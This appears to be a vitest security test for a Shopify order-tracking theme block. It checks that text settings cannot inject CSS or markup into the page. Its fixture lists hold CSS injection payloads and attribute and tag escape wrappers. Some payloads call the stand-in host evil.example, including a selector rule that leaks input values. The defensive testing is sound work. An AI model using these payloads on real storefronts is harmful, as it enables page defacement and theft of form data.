import { afterEach, describe, expect, it } from 'vitest';
import { countCases, someOf } from '../e2e/score/count-cases.fixtures.ts';
import { putBlocks } from './block-page.fixtures.ts';

/** The settings that take any text. Shopify itself lets a colour be a colour only, and cleans rich text. */
const SETTINGS = [
  'heading',
  'button',
  'contact_sentence',
  'returns_sentence',
  'ships_in',
  'heading_class',
  'input_class',
  'button_class',
  'proxy_path',
  'contact_link',
  'returns_link',
];

const CSS: readonly string[] = [
  'position:fixed;inset:0;z-index:99',
  'background:url(https://evil.example/x)',
  '}body{display:none}',
  '*{color:red!important}',
  '@import "https://evil.example/x.css";',
  '@font-face{font-family:x;src:url(https://evil.example/f)}',
  'width:expression(alert(1))',
  '-moz-binding:url(https://evil.example/x)',
  'input[value^=a]{background:url(https://evil.example/a)}',
  '--order-tracking-accent:red;display:none',
];

/** Ways out of a text, an attribute, a rule or an element. */
const ESCAPES: readonly ((css: string) => string)[] = [
  (css) => css,
  (css) => `;${css}`,
  (css) => `" style="${css}`,
  (css) => `' style='${css}`,
  (css) => `"><style>${css}</style>`,
  (css) => `</style><style>${css}`,
  (css) => `</h2></div><div style="${css}">`,
  (css) => `"/><link rel=stylesheet href="data:text/css,${css}">`,
  (css) => `/*${css}*/`,
  (css) => `\\22 ${css}`,
  (css) => `&quot; style=&quot;${css}`,
  (css) => `%22%20style=%22${encodeURIComponent(css)}`,
  (css) => `x\n" style="${css}\n`,
  (css) => `x\0" style="${css}`,
  (css) => `\u201d style=\u201d${css}`,
  (css) => `javascript:"<style>${css}</style>"`,
  (css) => `//evil.example/?${css}`,
  (css) => `{{ "${css}" }}`,
  (css) => `{% style %}${css}{% endstyle %}`,
  (css) => `<!--${css}-->`,
];

const PAYLOADS = CSS.flatMap((css) => ESCAPES.map((escape) => escape(css)));

afterEach(() => void (document.body.innerHTML = ''));

/** What is on the page, without the values: elements, names of attributes, styles, and rules of all sheets. */
function shapeOf(): string {
  const elements = [...document.body.querySelectorAll('*')].map(({ tagName, attributes }) =>
    [tagName, ...[...attributes].map(({ name }) => name).toSorted()].join(' '),
  );
  const styles = [...document.querySelectorAll('[style]')].map((one) => one.getAttribute('style'));
  const rules = [...document.styleSheets].map(({ cssRules }) => cssRules.length);
  return JSON.stringify([elements, styles, rules]);
}

describe('a setting of the block', () => {
  it('changes its own words, class or link, and nothing else', ({ task }) => {
    const payloads = someOf(PAYLOADS, 0.02);
    const changed: string[] = [];
    for (const setting of SETTINGS) {
      putBlocks(['a'], { [setting]: 'neutral' });
      const shape = shapeOf();
      for (const payload of payloads) {
        putBlocks(['a'], { [setting]: payload });
        if (shapeOf() !== shape) changed.push(`${setting}: ${payload}`);
      }
    }
    expect(changed).toEqual([]);
    const foreign = performance
      .getEntriesByType('resource')
      .filter(({ name }) => new URL(name).host !== location.host);
    expect(foreign).toEqual([]);
    const tried = SETTINGS.length * payloads.length;
    countCases(task, {
      row: 'C5',
      suite: `${PAYLOADS.length} texts with CSS in ${SETTINGS.length} settings, in Chromium`,
      target: '0 rules, elements, attributes or requests of theirs',
      tried,
      survived: tried - changed.length,
      runsIn: 'npm test: 2 %',
    });
  });

  it('would be noticed if it did: a colour that Shopify did not check is', () => {
    putBlocks(['a'], { accent: 'red' });
    const shape = shapeOf();
    putBlocks(['a'], { accent: '"><style>body{display:none}</style>' });
    expect(shapeOf()).not.toBe(shape);
  });
});
